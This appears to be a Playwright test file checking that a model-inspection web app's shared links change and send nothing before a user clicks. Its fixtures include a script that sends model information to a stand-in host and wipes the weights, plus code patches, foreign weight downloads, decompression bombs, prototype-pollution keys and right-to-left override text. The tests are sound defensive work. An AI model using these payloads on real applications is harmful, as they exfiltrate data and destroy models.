/** Links from anyone: they fill in, they say what they would do, and nothing is changed, sent or lost before a click. */
import { writeFileSync } from 'node:fs';
import { deflateRawSync } from 'node:zlib';
import type { Page } from '@playwright/test';
import { API_VERSION } from '../src/contract/index.ts';
import { SITE_URL } from './server.ts';
import { expect, test } from './support.ts';

const packed = (text: string) => deflateRawSync(Buffer.from(text), { level: 9 }).toString('base64url');
const explorer = (operation: string, input: unknown) => `#/api/${operation}?input=${encodeURIComponent(JSON.stringify(input))}`;
const linkedExperiment = (linked: unknown) => `#/computation/experiments?experiment=${packed(JSON.stringify(linked))}`;
const FOREIGN = 'https://weights.example.com/model/';
const EVIL = `fetch('${FOREIGN}?' + JSON.stringify(await client.get('model', 'info'))); await client.put('model', 'weights', {});`;
const provenance = { model_id: 'x', weights_hash: 'x', code_revisions: {}, contract: API_VERSION };

/** What a harmful link is, and what the page says of it. */
const LINKS: readonly [name: string, hash: string, says: RegExp][] = [
  [
    'a script that calls home',
    explorer('code/run', { source: EVIL }),
    /nothing has been sent\. Sending it runs this code.*weights\.example\.com/,
  ],
  [
    'a patch',
    explorer('code/patch', { id: 'model.attention', source: EVIL }),
    /nothing has been sent\. Sending it puts this code into the engine/,
  ],
  ['a candidate', explorer('code/testResource', { id: 'model.attention', source: EVIL }), /Sending it runs this code once/],
  [
    'weights of a foreign host',
    explorer('model/swapWeights', { source: { kind: 'url', url: FOREIGN } }),
    /downloads a model.*the host weights\.example\.com/,
  ],
  ['weights of the hub', explorer('model/swapWeights', { source: { kind: 'hub', repo: 'someone/something' } }), /downloads a model/],
  ['the end of a plan', explorer('computation/deletePlan', { id: 'default' }), /nothing has been sent/],
  [
    'a bomb of one letter',
    `#/api/tokenizer/tokenize?input=z:${packed(JSON.stringify({ text: 'a'.repeat(45_000_000) }))}`,
    /more than 4 MB/,
  ],
  ['a bomb of lists', `#/api/tokenizer/tokenize?input=z:${packed('['.repeat(30_000_000))}`, /more than 4 MB/],
  ['an abyss', `#/api/tokenizer/tokenize?input=z:${packed('['.repeat(1_000_000) + ']'.repeat(1_000_000))}`, /deep/],
  [
    'a million ids',
    `#/api/tokenizer/detokenize?input=z:${packed(JSON.stringify({ input_ids: Array(1_000_000).fill(1) }))}`,
    /nothing has been sent/,
  ],
  ['a packed text that is cut', '#/api/tokenizer/tokenize?input=z:AAAA', /cut off or changed/],
  ['JSON that is cut', '#/api/tokenizer/tokenize?input={"text":', /cut off or changed/],
  ['broken escapes of an input', '#/api/tokenizer/tokenize?input=%E0%A4%A', /cut off or changed/],
  ['a longer address than any', `#/api/tokenizer/tokenize?input="${'a'.repeat(900_000)}"`, /It was not opened/],
  ['a number where an object is', '#/api/model/generate?input=5', /The link holds a number\. A request is a JSON object/],
  ['a prototype', explorer('model/generate', { ['__proto__']: { prompt: 1 }, constructor: { prototype: 1 } }), /nothing has been sent/],
  [
    'a playground prompt',
    '#/playground?prompt=Theirs&temperature=99999&n=16&temprature=1',
    /came by a link.*temperature can’t be “99999”.*“temprature” is no parameter/s,
  ],
  ['a prompt in no form that is known', '#/playground?s=zzzz', /Nothing in this link could be read.*“s” is no parameter/s],
  ['broken escapes of a prompt', '#/playground?prompt=caf%E9', /cut off or changed/],
  [
    'an experiment',
    linkedExperiment({ ...provenance, input: { name: 'Theirs', grid: { kernel: ['naive', 'grouped'] } } }),
    /came by a link and has not been run/,
  ],
  [
    'an experiment without end',
    linkedExperiment({ ...provenance, input: { grid: { seq_len: Array(400_000).fill(64) } } }),
    /cannot be read/,
  ],
  [
    'an experiment that is a bomb',
    `#/computation/experiments?experiment=${packed(JSON.stringify({ ...provenance, input: { text: 'a'.repeat(45_000_000) } }))}`,
    /more than 4 MB/,
  ],
];

/** Each says what of it is not as the sender wrote it. */
const REMARKS: readonly [name: string, hash: string, says: RegExp, never?: RegExp][] = [
  ['a packed text that is no UTF-8', '#/api/tokenizer/tokenize?input=z:q1YqSa0oUbJSSk5M-39YqRYA', /cut off or changed/],
  ['a plain text that is no UTF-8', '#/api/tokenizer/tokenize?input={"text":"caf%E9"}', /cut off or changed/],
  ['a mistyped name of an endpoint', '#/api/tokenizer/tokenize?inptu=5', /“inptu” is no parameter/],
  [
    'a second input',
    '#/api/tokenizer/tokenize?input={"text":"a"}&input={"text":"b"}',
    /filled this request in.*input stands in the link twice/s,
  ],
  ['a field that is not there', '#/api/tokenizer/tokenize?field=/nonsense', /has no field “\/nonsense”/],
  [
    'names that stand twice',
    '#/playground?prompt=a&prompt=b&temperature=0.1&temperature=0.9',
    /prompt stands in the link twice/,
    /can’t be/,
  ],
  ['a benchmark of nobody', '#/computation/benchmark?kernel=nonsense&plan=gone', /no kernel “nonsense”.*no plan “gone”/s],
  ['a mistyped name of the benchmark', '#/computation/benchmark?kernl=naive', /“kernl” is no parameter/],
  ['a plan that is gone', '#/computation/experiments?plan=gone&with=none', /no plan “gone”.*no experiment “none”/s],
  ['a view that reads nothing', '#/memory?tier=gpu', /“tier” is no parameter of this view/],
  ['an address that turns text round', '#/nowhere\u202e%E2%80%AE', /no page “nowhere/, /\u202e/],
  ['an endless address', `#/${'a'.repeat(100_000)}`, /There is no page “a{99}…”/],
  [
    'an experiment that turns text round',
    linkedExperiment({
      ...provenance,
      model_id: `\u202e${'m'.repeat(3_000_000)}`,
      input: { name: 'a\u202eb', grid: { seq_len: [8, 16] } },
    }),
    /a⟨U\+202E⟩b came by a link.*made on ⟨U\+202E⟩m{38}… /s,
    /\u202e|m{100}/,
  ],
];

/** What a link must leave as it is. */
const standing = (page: Page) =>
  page.evaluate(async () => {
    const { client } = globalThis.glassbox;
    client.enableRestfulMode(false);
    const { weights } = await client.get('model', 'weights');
    const code = await client.get('code', 'info');
    const { plans } = await client.get('computation', 'plans');
    const { experiments } = await client.get('computation', 'experiments');
    const { generations } = await client.get('model', 'generations');
    const counts = { plans: plans.length, experiments: experiments.length, generations: generations.length };
    return { weights: weights!.weights_hash, patched: code.state.patched, ...counts, stored: localStorage.getItem('glassbox.playground') };
  });

test('links made to harm change and send nothing, and say what they are', async ({ app }) => {
  test.setTimeout(240_000);
  const left: string[] = [];
  app.page.on('request', (request) => {
    if (!request.url().startsWith(new URL(SITE_URL).origin) && !/^(data|blob):/.test(request.url())) left.push(request.url());
  });
  await app.open('#/playground');
  await app.page.getByRole('textbox', { name: 'Prompt' }).fill('Mine');
  await expect.poll(() => app.page.evaluate(() => localStorage.getItem('glassbox.playground'))).toContain('Mine');
  const before = await standing(app.page);
  expect(before.weights).toBeTruthy();

  for (const [name, hash, says] of LINKS) {
    await test.step(name, async () => {
      await app.page.evaluate((next) => {
        location.hash = next;
      }, hash);
      const main = app.page.getByRole('main');
      await expect(main, name).toContainText(says, { timeout: 30_000 });
      expect(await standing(app.page), name).toEqual(before);
    });
  }
  expect(left, 'nothing left this site').toEqual([]);
});

test('a link opened in a new tab leaves the stored prompt alone until it is used, and gives it back', async ({ app }) => {
  const { page } = app;
  await app.open('#/playground');
  const prompt = page.getByRole('textbox', { name: 'Prompt' });
  await prompt.fill('Mine');
  const stored = () => page.evaluate(() => JSON.parse(localStorage.getItem('glassbox.playground') ?? '{}') as { prompt: string });
  await expect.poll(async () => (await stored()).prompt).toBe('Mine');

  await page.goto('about:blank');
  await app.open('#/playground?prompt=Theirs&temperature=0&max_new_tokens=4');
  await expect(prompt).toHaveValue('Theirs');
  await prompt.fill('Theirs, changed');
  await page.getByRole('link', { name: 'Memory' }).click();
  await page.getByRole('link', { name: 'Playground' }).click();
  await expect(prompt, 'going away and back without the link').toHaveValue('Mine');

  await app.open('#/playground');
  await page.evaluate(() => {
    location.hash = '#/playground?prompt=Theirs&temperature=0&max_new_tokens=4';
  });
  await expect(prompt).toHaveValue('Theirs');
  await page.getByRole('button', { name: 'Back to mine' }).click();
  await expect(prompt).toHaveValue('Mine');
  expect((await stored()).prompt).toBe('Mine');

  await page.evaluate(() => {
    location.hash = '#/playground?prompt=Once+upon&temperature=0&max_new_tokens=4';
  });
  await expect(prompt).toHaveValue('Once upon');
  await page.getByRole('button', { name: 'Generate' }).click();
  await expect.poll(async () => (await stored()).prompt, 'used: now it is stored').toBe('Once upon');
  await expect(page.getByText('came by a link')).toHaveCount(0);
});

test('a link to a request gives back what was being written', async ({ app }) => {
  const { page } = app;
  await app.open('#/api/tokenizer/tokenize');
  const text = page.getByRole('form', { name: 'Request' }).getByRole('textbox').first();
  await text.fill('My own words');
  await page.evaluate(
    (next) => {
      location.hash = next;
    },
    explorer('tokenizer/tokenize', { text: 'Theirs' }),
  );
  await expect(text).toHaveValue('Theirs');
  await page.getByRole('button', { name: 'Put back what was here' }).click();
  await expect(text).toHaveValue('My own words');
});

test('a trace file longer than a workload may be is not read, and says so', async ({ app }) => {
  const { page } = app;
  await app.open('#/scheduler/workloads');
  await page.getByLabel('Arrivals').selectOption('trace');
  const path = test.info().outputPath('long.csv');
  writeFileSync(path, Buffer.alloc(31_000_000, 'a\n'));
  await page.locator('input[type=file]').setInputFiles(path);
  await expect(page.getByText(/Trace must have at most .*; long\.csv has .*Cut it/)).toBeVisible();
});

test('what a link holds that is not there, stands twice or can’t be shown is said', async ({ app }) => {
  await app.open('#/playground');
  const main = app.page.getByRole('main');
  const goTo = (hash: string) => app.page.evaluate((next) => (location.hash = next), hash);
  for (const [name, hash, says, never] of REMARKS) {
    await test.step(name, async () => {
      await goTo(hash);
      await expect(main, name).toContainText(says);
      if (never) expect(await main.textContent(), name).not.toMatch(never);
    });
  }
});

test('a link to a benchmark or to an experiment of a plan counts where the view is open, and what was there comes back', async ({
  app,
}) => {
  const { page } = app;
  await app.open('#/computation/benchmark');
  const goTo = (hash: string) => page.evaluate((next) => (location.hash = next), hash);
  const box = (name: string | RegExp) => page.getByRole('main').getByRole('checkbox', { name });
  await box(/^grouped/).check();
  await goTo('#/computation/benchmark?kernel=naive&plan=default');
  await expect(box(/^naive/)).toBeChecked();
  await expect(box(/^Default/)).toBeChecked();
  await expect(box(/^grouped/)).not.toBeChecked();
  await page.getByRole('button', { name: 'Put back what was here' }).click();
  await expect(box(/^grouped/)).toBeChecked();
  await expect(box(/^naive/)).not.toBeChecked();

  await page.evaluate(() => globalThis.glassbox.client.post('computation', 'plans', { id: 'mine', name: 'Mine' }));
  await goTo('#/computation/benchmark?plan=mine');
  await expect(box(/^Mine/)).toBeChecked();
  await page.evaluate(() => globalThis.glassbox.client.post('computation', 'plans', { id: 'late', name: 'Late' }));
  await goTo('#/computation/experiments');
  const base = page.getByLabel('Base plan');
  await expect(base).toHaveValue('default');
  await goTo('#/computation/experiments?plan=mine');
  await expect(base).toHaveValue('mine');
});
